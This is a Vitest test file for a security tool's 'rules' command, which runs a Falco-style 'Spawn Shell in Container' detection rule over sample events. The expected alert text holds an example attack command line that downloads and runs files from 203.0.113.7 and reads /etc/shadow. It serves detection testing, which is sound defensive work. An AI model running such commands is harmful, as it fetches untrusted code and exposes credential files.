import { writeFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fileURLToPath } from 'node:url';
import { openCaseReadOnly } from '../../src/db/open.js';
import { runCli } from '../support/run-cli.js';
import { tempDir } from '../support/temp-case.js';

/** `pedigree rules` end to end on the bundled story and the seed rule. */

const SAMPLE = fileURLToPath(new URL('../../samples/story.jsonl', import.meta.url));
const SEED = fileURLToPath(new URL('../../samples/rules/spawn-shell-in-container.yaml', import.meta.url));
const dir = tempDir('pedigree-rules-cli-');
const db = dir.path('story.db');
const env = { TZ: 'UTC' };

beforeAll(() => {
  const r = runCli(['import', SAMPLE, '--db', db, '-q']);
  expect(r.code, r.stderr).toBe(0);
});
afterAll(() => dir.cleanup());

const LINE =
  '2024-11-28T13:20:15.016500000Z: Warning Shell spawned in a container by a non-shell parent (user=nginx user_uid=101 process=sh parent=nginx gparent=nginx command=sh -c curl -s -o /tmp/x http://203.0.113.7/x; wget -q -O /tmp/y http://203.0.113.7/y; cat /etc/shadow; /tmp/x & pid=4001 container_id=3f9a1c0e2b7d container_name=nginx image=docker.io/library/nginx:latest k8s_ns=default k8s_pod=nginx-test)';

describe('pedigree rules', () => {
  it('run: the seed rule fires once on the sample, in Falco text format, and is stored', () => {
    const r = runCli(['rules', 'run', SEED, '--db', db], { env });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe(`${LINE}\n`);
    expect(r.stderr).toContain('1 rule run, 1 alert');
    const again = runCli(['rules', 'run', SEED, '--db', db, '-q'], { env });
    expect(again.stdout).toBe(`${LINE}\n`);
    const ro = openCaseReadOnly(db);
    const rows = ro.prepare('SELECT rule, priority, time_ns, output, origin FROM alerts').all();
    ro.close();
    expect(rows).toEqual([
      {
        rule: 'Spawn Shell in Container',
        priority: 'Warning',
        time_ns: 1732800015016500000n,
        output: LINE.slice(LINE.indexOf('Shell spawned')),
        origin: 'pedigree rules run',
      },
    ]);
  });

  it("run --json: Falco's JSON alert object", () => {
    const r = runCli(['rules', 'run', SEED, '--db', db, '--json', '--no-save', '-q'], { env });
    expect(r.code, r.stderr).toBe(0);
    const line = r.stdout.trim();
    expect(line).toContain('"evt.time":1732800015016500000,');
    const obj = JSON.parse(line) as Record<string, unknown>;
    expect(Object.keys(obj)).toEqual(['hostname', 'output', 'output_fields', 'priority', 'rule', 'source', 'tags', 'time']);
    expect(obj).toMatchObject({
      hostname: 'node-1',
      // JSON keeps Falco's own output text: the time of day, in the process's zone (TZ=UTC here)
      output: LINE.replace('2024-11-28T', '').replace('Z:', ':'),
      priority: 'Warning',
      rule: 'Spawn Shell in Container',
      source: 'syscall',
      tags: ['T1059.004', 'container', 'mitre_execution', 'process', 'shell'],
      time: '2024-11-28T13:20:15.016500000Z',
      output_fields: { 'proc.name': 'sh', 'proc.pname': 'nginx', 'proc.pid': 4001, 'container.id': '3f9a1c0e2b7d', 'k8s.pod.name': 'nginx-test' },
    });
  });

  it('run filters by priority and time', () => {
    expect(runCli(['rules', 'run', SEED, '--db', db, '--min-priority', 'error', '--no-save', '-q']).stdout).toBe('');
    expect(runCli(['rules', 'run', SEED, '--db', db, '--since', '2024-11-28T13:20:16Z', '--no-save', '-q']).stdout).toBe('');
    expect(runCli(['rules', 'run', SEED, '--db', db, '--until', '1732800015016500001', '--no-save', '-q'], { env }).stdout).toBe(`${LINE}\n`);
    const bad = runCli(['rules', 'run', SEED, '--db', db, '--min-priority', 'loud']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/expected one of emergency/);
  });

  it('check and explain', () => {
    const check = runCli(['rules', 'check', SEED, '--json']);
    expect(check.code).toBe(0);
    expect(JSON.parse(check.stdout)).toMatchObject([{ rule: 'Spawn Shell in Container', verdict: 'evaluable', detail: 'on execve, execveat' }]);
    const explain = runCli(['rules', 'explain', '--rule', 'Spawn Shell in Container', SEED, '--json']);
    const info = JSON.parse(explain.stdout) as { sql: string; parameters: unknown[]; condition: string };
    expect(info.condition).toBe(
      'evt.type in (execve, execveat) and container.id != host and proc.name in (ash, bash, csh, ksh, sh, tcsh, zsh, dash) and proc.pname exists and not proc.pname in (ash, bash, csh, ksh, sh, tcsh, zsh, dash)',
    );
    expect(info.sql).not.toContain("'sh'");
    expect(info.parameters).toContain('sh');
  });

  it('reports load errors with file, line and column and exit code 65', () => {
    const bad = dir.path('bad.yaml');
    writeFileSync(bad, '- rule: x\n  desc: d\n  condition: proc.name = a and\n  output: o\n  priority: INFO\n');
    const r = runCli(['rules', 'check', bad]);
    expect(r.code).toBe(65);
    expect(r.stderr).toContain(`${bad}:3:14: error LOAD_ERR_COMPILE_CONDITION (rule 'x')`);
  });
});
